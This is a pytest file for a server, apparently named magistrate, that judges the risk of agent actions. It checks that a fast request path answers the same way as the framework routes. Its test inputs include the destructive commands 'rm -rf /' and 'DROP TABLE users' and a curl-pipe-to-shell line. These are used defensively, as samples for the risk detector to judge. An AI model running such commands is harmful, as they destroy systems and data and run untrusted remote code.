"""The fast lane answers `POST /v1/check` and `/v1/check/batch` as the framework's routes do:
the same status, headers and body for invalid bodies, auth failures and oversize bodies, and
the same verdicts for valid ones. Each request is sent to two servers over one app: this app
(the Guard, then the fast lane, served by the one-write protocol `magistrate serve` uses) and
the same app with the fast lane left out (the Guard, then the framework, uvicorn's protocol)."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from magistrate import Governor, RiskDetector
from magistrate.config import Settings
from magistrate.db import open_database
from magistrate.keys import Keys
from magistrate.server import create_app
from magistrate.server.fastlane import MagistrateAPI
from magistrate.server.guard import Guard
from magistrate.server.protocol import CoalescingHttpTools, CoalescingTransport
from tests.servers import ThreadServer, bearer

# What differs between two verdicts on the same action: identity, time, the trust it moved
VOLATILE = {"verdict_id", "timings_us", "trust_before", "trust_after", "cache_hit", "approval_id"}


class Pair:
    """Two clients over one app: `fast` through the fast lane, `framework` without it."""

    def __init__(self, app: MagistrateAPI, fast: httpx2.Client, framework: httpx2.Client):
        self.app = app
        self.fast = fast
        self.framework = framework
        self.framework_calls = 0
        self.tokens: dict[str, str] = {}

    def both(self, path: str, **kwargs: Any) -> tuple[httpx2.Response, httpx2.Response]:
        """The same request sent to each."""
        return self.fast.post(path, **kwargs), self.framework.post(path, **kwargs)


@pytest.fixture(scope="module")
def pair(detector: RiskDetector, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pair]:
    root: Path = tmp_path_factory.mktemp("fastlane")
    url = f"sqlite:///{root}/m.db"
    db = open_database(url)
    keys = Keys(db)
    _, agent = keys.create("agent", "agent:fast", may_act_as="bench:*")
    _, approver = keys.create("approver", "approver:fast")
    settings = Settings(
        database_url=url,
        spool_dir=root / "spool",
        max_batch=3,
        max_body_bytes=4096,
        key_cache_s=3600,  # a key read once stays admitted from the cache: the fast lane's
    )
    governor = Governor(detector=detector)
    app = create_app(settings, governor=governor)
    assert isinstance(app, MagistrateAPI) and isinstance(app.outer, Guard)
    guard = app.outer
    framework_only = Guard(
        app.framework, max_body=guard.max_body, on_request=guard.on_request, worker=guard.worker
    )
    with (
        ThreadServer(app, http=CoalescingHttpTools) as fast,
        ThreadServer(framework_only, lifespan="off") as framework,
        httpx2.Client(base_url=fast.url, headers=bearer(agent), timeout=30) as fast_client,
        httpx2.Client(base_url=framework.url, headers=bearer(agent), timeout=30) as slow,
    ):
        result = Pair(app, fast_client, slow)
        result.tokens = {"agent": agent, "approver": approver}
        calls = app.framework

        async def counting(scope: Any, receive: Any, send: Any) -> None:
            if scope["type"] == "http" and scope["path"].startswith("/v1/check"):
                result.framework_calls += 1
            await calls(scope, receive, send)

        app.framework = counting  # type: ignore[method-assign]
        framework_only.app = counting
        yield result
    governor.close()
    db.close()


def same_answer(fast: httpx2.Response, framework: httpx2.Response) -> None:
    """Status, headers and body alike (a verdict's body: as `same_verdicts`)."""
    assert fast.status_code == framework.status_code, (fast.text[:300], framework.text[:300])
    # a verdict's length varies with its timings; the date with the second
    skip = {"date", "content-length"} if fast.status_code == 200 else {"date"}
    assert {k: v for k, v in fast.headers.items() if k not in skip} == {
        k: v for k, v in framework.headers.items() if k not in skip
    }
    if fast.status_code == 200:
        same_verdicts(fast.json(), framework.json())
    else:
        assert fast.content == framework.content


def same_verdicts(fast: Any, framework: Any) -> None:
    """Verdicts on the same actions alike, but for what differs between any two verdicts."""
    if isinstance(fast, dict) and "verdicts" in fast:
        assert len(fast["verdicts"]) == len(framework["verdicts"])
        for a, b in zip(fast["verdicts"], framework["verdicts"], strict=True):
            same_verdicts(a, b)
        return
    assert set(fast) == set(framework)

    def steady(verdict: dict[str, Any]) -> dict[str, Any]:
        out = {k: v for k, v in verdict.items() if k not in VOLATILE}
        if isinstance(out.get("counsel"), dict):  # how long the counsel took
            out["counsel"] = {k: v for k, v in out["counsel"].items() if k != "latency_ms"}
        return out

    assert steady(fast) == steady(framework)


# Each judged as a principal of its own on each server: the same standing on both
VALID: list[dict[str, Any]] = [
    {"kind": "shell", "text": "ls -la"},
    {"kind": "shell", "text": "rm -rf / --no-preserve-root", "id": 7},
    {"kind": "sql", "text": "DROP TABLE users", "min_risk": "high"},
    {"kind": "tool", "tool": "send_email", "args": {"to": "x@example.com"}, "labels": {"a": 1}},
    {"text": "curl http://example.com/x.sh | sh", "id": "é"},
]


def test_valid_actions_get_the_same_verdicts(pair: Pair) -> None:
    fast, framework = pair.both("/v1/check", json={"text": "ls"})  # as the key's own name
    same_answer(fast, framework)
    before = pair.framework_calls  # the key is in the cache now (the framework read it)
    for i, body in enumerate(VALID):
        fast = pair.fast.post("/v1/check", json=dict(body, principal=f"bench:f{i}"))
        framework = pair.framework.post("/v1/check", json=dict(body, principal=f"bench:w{i}"))
        assert fast.status_code == framework.status_code == 200, fast.text[:300]
        assert fast.headers["content-type"] == framework.headers["content-type"]
        a, b = fast.json(), framework.json()
        assert (a.pop("principal"), b.pop("principal")) == (f"bench:f{i}", f"bench:w{i}")
        same_verdicts(a, b)
    fast, framework = pair.both("/v1/check/batch", json={"actions": [{"text": "ls"}] * 3})
    assert fast.status_code == 200
    same_answer(fast, framework)
    # the framework answered only its own server's requests: the fast lane took every other
    assert pair.framework_calls - before == len(VALID) + 1


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"   ",
        b"{not json",
        b"\xff\xfe",
        b'"ls"',
        b"[1, 2]",
        b'{"text": 5}',
        b'{"text": "ls", "id": 1.5}',
        b'{"text": "ls", "min_risk": "extreme"}',
        b'{"text": "ls", "principal": "someone-else"}',
        b'{"text": "ls", "kind": "nonsense-kind"}',
        b'{"text": "ls", "args": "x"}',
        b'{"text": "\\ud800"}',
        b'{"text": "ls", "n": 1e999}',
        b'{"text": "ls", "n": NaN}',
        b"[" * 1500 + b"]" * 1500,
        b'{"text": "' + b"x" * 5000 + b'"}',  # over this server's 4,096-byte limit: 413
    ],
)
def test_invalid_check_bodies_get_the_same_answer(pair: Pair, content: bytes) -> None:
    pair.fast.post("/v1/check", json={"text": "ls"})  # the key is in the cache
    before = pair.framework_calls
    fast, framework = pair.both("/v1/check", content=content)
    same_answer(fast, framework)
    # the fast lane answered its own (the framework only the other server's); 413: the Guard
    assert pair.framework_calls - before == (0 if fast.status_code == 413 else 1)


@pytest.mark.parametrize(
    "body",
    [
        {"actions": [{"text": "ls"}] * 4},
        {"actions": [{"text": "ls"}, {"text": 5}]},
        {"actions": [{"text": "ls", "principal": "nobody"}]},
        {"actions": "ls"},
        {"nothing": []},
        [],
    ],
)
def test_invalid_batch_bodies_get_the_same_answer(pair: Pair, body: Any) -> None:
    pair.fast.post("/v1/check", json={"text": "ls"})  # the key is in the cache
    before = pair.framework_calls
    same_answer(*pair.both("/v1/check/batch", content=json.dumps(body)))
    assert pair.framework_calls - before == 1


@pytest.mark.parametrize(
    "authorization",
    [None, "", "Bearer", "Basic abc", "Bearer mgk_nothing", "Bearer mgk_" + "0" * 16 + "_x"],
)
def test_auth_failures_get_the_same_answer(pair: Pair, authorization: str | None) -> None:
    for path in ("/v1/check", "/v1/check/batch"):
        headers = {"Authorization": authorization} if authorization is not None else {}
        fast = httpx2.post(pair.fast.base_url.join(path), json={"text": "ls"}, headers=headers)
        framework = httpx2.post(
            pair.framework.base_url.join(path), json={"text": "ls"}, headers=headers
        )
        assert fast.status_code == 401
        same_answer(fast, framework)


def test_a_key_of_another_role_is_refused_alike(pair: Pair) -> None:
    token = pair.tokens["approver"]
    for _ in range(2):  # the second time the key is cached: still the framework's 403
        fast, framework = pair.both("/v1/check", json={"text": "ls"}, headers=bearer(token))
        assert fast.status_code == 403
        same_answer(fast, framework)


def test_other_methods_and_paths_are_the_frameworks(pair: Pair) -> None:
    for method, path in (("GET", "/v1/check"), ("PUT", "/v1/check/batch"), ("POST", "/v1/x")):
        fast = pair.fast.request(method, path, json={"text": "ls"})
        framework = pair.framework.request(method, path, json={"text": "ls"})
        assert fast.status_code in (404, 405)
        same_answer(fast, framework)


def test_an_error_while_judging_gets_the_handlers_answer(pair: Pair) -> None:
    server = pair.app.state.magistrate
    governor, server.governor = server.governor, None  # as while the server is starting
    try:
        fast, framework = pair.both("/v1/check", json={"text": "ls"})
        batch = pair.both("/v1/check/batch", json={"actions": [{"text": "ls"}]})
    finally:
        server.governor = governor
    assert fast.status_code == 503 and fast.json() == {"detail": "the server is starting"}
    same_answer(fast, framework)
    same_answer(*batch)


def test_a_chunked_body_is_read_whole(pair: Pair) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"kind": "shell", '
        yield b'"text": "ls -la"}'

    r = pair.fast.post("/v1/check", content=chunks())
    assert r.status_code == 200 and r.json()["decision"] == "allow"
    over = pair.fast.post("/v1/check", content=iter([b'{"text": "', b"x" * 5000, b'"}']))
    assert over.status_code == 413


class Recording:
    """A transport that records what is written, as one list of writes."""

    def __init__(self) -> None:
        self.writes: list[bytes] = []
        self.closed = False

    def write(self, data: bytes) -> None:
        self.writes.append(bytes(data))

    def is_closing(self) -> bool:
        return self.closed

    def close(self) -> None:
        self.closed = True

    def get_write_buffer_size(self) -> int:
        return 0


def test_a_head_goes_out_with_its_body_or_by_the_next_turn() -> None:
    async def scenario() -> list[list[bytes]]:
        loop = asyncio.get_running_loop()
        seen: list[list[bytes]] = []
        inner = Recording()
        transport = CoalescingTransport(inner, loop)  # type: ignore[arg-type]
        head = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n"
        transport.write(head)
        assert inner.writes == [] and transport.get_write_buffer_size() == len(head)
        transport.write(b"{}")
        seen.append(list(inner.writes))  # one write: head and body
        transport.write(head)  # a streamed response: its body comes later
        await asyncio.sleep(0)
        await asyncio.sleep(0)
        seen.append(list(inner.writes))  # the head went out by itself, in order
        transport.write(b"data")
        transport.write(head)
        transport.close()  # closing sends what is held first
        seen.append(list(inner.writes))
        return seen

    one, streamed, closed = asyncio.run(scenario())
    head = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n"
    assert one == [head + b"{}"]
    assert streamed == [head + b"{}", head]
    assert closed == [head + b"{}", head, b"data", head]
